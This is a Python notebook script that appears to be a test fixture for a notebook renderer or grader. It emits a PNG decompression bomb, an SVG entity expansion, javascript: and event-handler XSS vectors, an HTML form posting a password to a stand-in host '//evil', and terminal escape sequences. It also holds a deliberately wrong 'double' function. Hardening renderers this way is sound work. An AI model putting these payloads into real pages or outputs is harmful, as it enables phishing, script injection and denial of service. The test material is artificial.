"""Shows pictures of gigapixels that are small as files, drawings with entities and frames, and forms that call outside."""
# verdict: wrong

# %%
import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


SIDE = 30_000
rows = zlib.compress(b"\0" * (SIDE // 8 + 1) * SIDE, 1)
head = chunk(b"IHDR", struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0))
png = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
DRAWING = """<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">
<foreignObject><iframe src="javascript:REACHED_SCRIPT()"/></foreignObject><a href="javascript:REACHED_SCRIPT()">&b;</a></svg>"""
PAGE = """<base href=//evil><meta http-equiv=refresh content="0;url=//evil"><form action=//evil><input name=password></form>
<svg><animate onbegin=REACHED_SCRIPT()></svg><details open ontoggle=REACHED_SCRIPT()><math href=javascript:REACHED_SCRIPT()>"""
display({"image/png": base64.b64encode(png).decode(), "text/plain": "large"}, raw=True)
display({"image/svg+xml": DRAWING}, raw=True)
display({"image/jpeg": "javascript:REACHED_SCRIPT()", "text/markdown": PAGE}, raw=True)
display({"text/html": PAGE, "text/latex": r"$\href{javascript:REACHED_SCRIPT()}{x}$"}, raw=True)
print("\u202egnip\u2066 \x1bP+q\x1b\\ \x9b2J \x85 \r" * 100)


# %% answer="double"
def double(x):
    return 0.0


display({"image/png": base64.b64encode(png).decode()}, raw=True)
print("\u202e\x9b2J")
